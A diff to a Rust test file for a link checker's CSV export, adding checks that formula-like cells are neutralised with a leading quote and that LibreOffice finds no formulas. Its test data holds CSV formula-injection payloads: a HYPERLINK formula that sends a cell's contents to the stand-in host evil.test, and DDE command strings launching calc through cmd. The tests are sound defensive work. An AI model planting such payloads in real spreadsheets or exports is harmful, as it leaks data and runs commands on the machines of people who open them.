@@ -1,11 +1,11 @@
-//! The CSV in spreadsheets: `--csv-bom`, and LibreOffice Calc opening the binary's
-//! `;`-separated CSV with LinkChecker's 17 columns intact. The CSV is converted to xlsx by a
-//! headless LibreOffice and the sheet is read back from the xlsx (zip) with an XML parser, cell
-//! by cell, against the CSV the binary wrote.
+//! The CSV in spreadsheets: `--csv-bom`, cells that would be formulas, and LibreOffice Calc
+//! opening the binary's `;`-separated CSV with LinkChecker's 17 columns intact and no formula.
+//! The CSV is converted to xlsx by a headless LibreOffice and the sheet is read back from the
+//! xlsx (zip) with an XML parser, cell by cell, against the CSV the binary wrote.
 
 use std::collections::HashMap;
 use std::io::Read;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::time::Duration;
 
@@ -13,25 +13,51 @@ use linkpatrol::report::CSV_COLUMNS;
 
 use crate::external::{program_or_skip, run_with_deadline};
 use crate::server::{Reply, Routes, TestServer};
-use crate::util::{cli, temp_dir};
+use crate::util::{cli, csv_records, row_named, temp_dir};
 
 /// Link text that trips naive CSV and encoding handling: non-ASCII, the delimiter, quotes.
 const TRICKY: &str = "Ünïcødé ✓; \"quoted\", 'single' <b>";
 
-/// A page with a fine link with tricky text, a 404, a redirect (a warning) and a mail link.
+/// Link texts a spreadsheet would run as formulas (OWASP's examples, and a `-` one).
+const FORMULAS: [&str; 4] = [
+    "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+];
+
+/// A `Last-Modified` header a spreadsheet would run as a formula.
+const FORMULA_DATE: &str = "=cmd|' /C calc'!A0";
+
+/// A page with a fine link with tricky text, a 404, a redirect (a warning), a mail link, links
+/// named like formulas, a link written `=1+1` and a page whose server dates it with a formula.
 fn site() -> TestServer {
+    let formulas: String = FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(i, f)| format!("<a href='/f{i}'>{}</a>\n", f.replace('&', "&amp;")))
+        .collect();
     TestServer::start(
         Routes::new()
             .page(
                 "/",
                 &format!(
                     "<a href='/ok'>{}</a>\n<a href='/gone'>gone; with \"quotes\"</a>\n\
-                     <a href='/moved'>moved</a> <a href='mailto:x@y.test'>mail</a>",
+                     <a href='/moved'>moved</a> <a href='mailto:x@y.test'>mail</a>\n\
+                     {formulas}<a href='=1+1'>eq</a>\n<a href='/dated'>dated</a>\n",
                     TRICKY.replace('<', "&lt;")
                 ),
             )
             .page("/ok", "fine")
-            .reply("/moved", Reply::redirect(302, "/ok")),
+            .reply("/moved", Reply::redirect(302, "/ok"))
+            .reply(
+                "/dated",
+                Reply::html("dated").header("Last-Modified", FORMULA_DATE),
+            )
+            .dynamic(|req| {
+                let i: usize = req.path_only().strip_prefix("/f")?.parse().ok()?;
+                (i < FORMULAS.len()).then(|| Reply::html("a page named like a formula"))
+            }),
     )
 }
 
@@ -61,6 +87,45 @@ fn csv_bom_comes_first_only_when_asked() {
     assert!(rdr.records().all(|r| r.unwrap().len() == 17));
 }
 
+#[test]
+fn cells_a_spreadsheet_would_run_get_a_quote_unless_csv_raw() {
+    let server = site();
+    let rows = csv_records(&csv_of(&server, &[]));
+    for (i, f) in FORMULAS.iter().enumerate() {
+        assert_eq!(
+            row_named(&rows, &format!("/f{i}"))[10],
+            format!("'{f}"),
+            "name"
+        );
+    }
+    assert_eq!(&row_named(&rows, "'=1+1")[10], "eq", "urlname");
+    assert_eq!(
+        row_named(&rows, "/dated")[16],
+        format!("'{FORMULA_DATE}"),
+        "modified"
+    );
+    for row in &rows {
+        for (j, cell) in row.iter().enumerate() {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    && (!cell.starts_with('-') || cell == "-1"),
+                "{} starts a formula: {cell:?}",
+                CSV_COLUMNS[j]
+            );
+        }
+    }
+    // The numbers we write stay numbers: a mail link has no download time and no size.
+    let mail = row_named(&rows, "mailto:x@y.test");
+    assert_eq!((&mail[11], &mail[12]), ("-1", "-1"));
+
+    let raw = csv_records(&csv_of(&server, &["--csv-raw"]));
+    for (i, f) in FORMULAS.iter().enumerate() {
+        assert_eq!(&row_named(&raw, &format!("/f{i}"))[10], *f);
+    }
+    assert_eq!(&row_named(&raw, "=1+1")[10], "eq");
+    assert_eq!(&row_named(&raw, "/dated")[16], FORMULA_DATE);
+}
+
 /// One cell of a sheet as the xlsx stores it.
 #[derive(Debug, Clone, PartialEq)]
 enum Cell {
@@ -68,6 +133,8 @@ enum Cell {
     Text(String),
     Number(f64),
     Bool(bool),
+    /// A formula's error value (`#VALUE!`): never what a CSV field said.
+    Error(String),
 }
 
 impl Cell {
@@ -77,6 +144,7 @@ impl Cell {
             Cell::Empty => field.is_empty(),
             Cell::Text(s) => s == field,
             Cell::Bool(b) => field.eq_ignore_ascii_case(if *b { "true" } else { "false" }),
+            Cell::Error(_) => false,
             Cell::Number(n) => field
                 .parse::<f64>()
                 .is_ok_and(|f| (f - n).abs() <= 1e-9 * f.abs().max(1.0)),
@@ -95,9 +163,9 @@ fn column_index(reference: &str) -> usize {
         - 1
 }
 
-/// The first sheet of an xlsx as rows of cells (each row as wide as its last cell), and its
-/// `dimension` reference.
-fn read_xlsx(path: &Path) -> (Vec<Vec<Cell>>, String) {
+/// The first sheet of an xlsx as rows of cells (each row as wide as its last cell), its
+/// `dimension` reference and the formulas of its cells.
+fn read_xlsx(path: &Path) -> (Vec<Vec<Cell>>, String, Vec<String>) {
     let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
     let mut part = |name: &str| -> Option<String> {
         let mut s = String::new();
@@ -126,10 +194,11 @@ fn read_xlsx(path: &Path) -> (Vec<Vec<Cell>>, String) {
     let doc = roxmltree::Document::parse(&sheet_xml).unwrap();
     let mut dimension = String::new();
     let mut rows: Vec<Vec<Cell>> = Vec::new();
+    let mut formulas = Vec::new();
     for node in doc.descendants() {
         match node.tag_name().name() {
             "dimension" => dimension = node.attribute("ref").unwrap().to_owned(),
-            "f" => panic!("a CSV field became a formula: {:?}", node.text()),
+            "f" => formulas.push(node.text().unwrap_or_default().to_owned()),
             "row" => {
                 let r: usize = node.attribute("r").unwrap().parse().unwrap();
                 rows.resize(r, Vec::new());
@@ -150,7 +219,7 @@ fn read_xlsx(path: &Path) -> (Vec<Vec<Cell>>, String) {
                         (Some("b"), Some(v)) => Cell::Bool(v == "1"),
                         (Some("str"), v) => Cell::Text(v.unwrap_or_default()),
                         (Some("inlineStr"), _) => Cell::Text(child_text("t").unwrap_or_default()),
-                        (Some("e"), v) => panic!("an error cell at {:?}: {v:?}", c.attribute("r")),
+                        (Some("e"), v) => Cell::Error(v.unwrap_or_default()),
                         (_, Some(v)) => Cell::Number(v.parse().unwrap()),
                         (_, None) => Cell::Empty,
                     };
@@ -163,7 +232,33 @@ fn read_xlsx(path: &Path) -> (Vec<Vec<Cell>>, String) {
             _ => {}
         }
     }
-    (rows, dimension)
+    (rows, dimension, formulas)
+}
+
+/// Converts `csv_path` to xlsx with a headless LibreOffice (profile and output under `dir`)
+/// and returns the xlsx.
+fn calc(soffice: &Path, dir: &Path, csv_path: &Path) -> PathBuf {
+    // A fresh profile: an open LibreOffice elsewhere would otherwise take the job silently.
+    // The filter options: `;` separated, `"` quoted, UTF-8, data from line 1.
+    let profile = url::Url::from_directory_path(dir.join("profile")).unwrap();
+    let outdir = dir.join("out");
+    let mut cmd = Command::new(soffice);
+    cmd.arg(format!("-env:UserInstallation={profile}"))
+        .args(["--headless", "--norestore", "--convert-to", "xlsx"])
+        .arg("--infilter=CSV:59,34,76,1")
+        .arg("--outdir")
+        .arg(&outdir)
+        .arg(csv_path)
+        .env("HOME", dir);
+    let run = run_with_deadline(&mut cmd, Duration::from_secs(300));
+    let xlsx = outdir.join(csv_path.with_extension("xlsx").file_name().unwrap());
+    assert!(
+        run.status.success() && xlsx.exists(),
+        "LibreOffice did not convert the CSV: {}\n{}",
+        String::from_utf8_lossy(&run.stdout),
+        String::from_utf8_lossy(&run.stderr)
+    );
+    xlsx
 }
 
 #[test]
@@ -200,28 +295,11 @@ fn libreoffice_opens_the_csv_with_17_columns_intact() {
         .collect();
     assert!(records.len() >= 5, "a header and the rows: {records:?}");
 
-    // A fresh profile: an open LibreOffice elsewhere would otherwise take the job silently.
-    // The filter options: `;` separated, `"` quoted, UTF-8, data from line 1.
-    let profile = url::Url::from_directory_path(dir.join("profile")).unwrap();
-    let outdir = dir.join("out");
-    let mut cmd = Command::new(&soffice);
-    cmd.arg(format!("-env:UserInstallation={profile}"))
-        .args(["--headless", "--norestore", "--convert-to", "xlsx"])
-        .arg("--infilter=CSV:59,34,76,1")
-        .arg("--outdir")
-        .arg(&outdir)
-        .arg(&csv_path)
-        .env("HOME", &dir);
-    let run = run_with_deadline(&mut cmd, Duration::from_secs(300));
-    let xlsx = outdir.join("links.xlsx");
+    let (rows, dimension, formulas) = read_xlsx(&calc(&soffice, &dir, &csv_path));
     assert!(
-        run.status.success() && xlsx.exists(),
-        "LibreOffice did not convert the CSV: {}\n{}",
-        String::from_utf8_lossy(&run.stdout),
-        String::from_utf8_lossy(&run.stderr)
+        formulas.is_empty(),
+        "CSV fields became formulas: {formulas:?}"
     );
-
-    let (rows, dimension) = read_xlsx(&xlsx);
     assert_eq!(
         dimension,
         format!("A1:Q{}", records.len()),
@@ -265,4 +343,30 @@ fn libreoffice_opens_the_csv_with_17_columns_intact() {
     assert_eq!(gone[7], Cell::Text(server.url("/gone")));
     let moved = by_urlname["/moved"];
     assert!(matches!(&moved[4], Cell::Text(w) if w.starts_with("[http-redirected]")));
+    // Formula-like text is text, shown with its `'`.
+    for (i, f) in FORMULAS.iter().enumerate() {
+        assert_eq!(
+            by_urlname[format!("/f{i}").as_str()][10],
+            Cell::Text(format!("'{f}"))
+        );
+    }
+    assert_eq!(by_urlname["'=1+1"][0], Cell::Text("'=1+1".into()));
+}
+
+#[test]
+fn libreoffice_runs_a_raw_formula_cell() {
+    // The check above finds formulas: with --csv-raw the link written `=1+1` becomes one.
+    let Some(soffice) = program_or_skip(
+        &["soffice", "libreoffice", "localc"],
+        "LibreOffice not found (install Debian's libreoffice-calc)",
+    ) else {
+        return;
+    };
+    let server = site();
+    let dir = temp_dir("spreadsheet-libreoffice-raw");
+    let csv_path = dir.join("raw.csv");
+    std::fs::write(&csv_path, csv_of(&server, &["--csv-raw"])).unwrap();
+    let (_, _, formulas) = read_xlsx(&calc(&soffice, &dir, &csv_path));
+    assert!(formulas.iter().any(|f| f == "1+1"), "{formulas:?}");
+    assert!(formulas.iter().any(|f| f.contains("calc")), "{formulas:?}");
 }
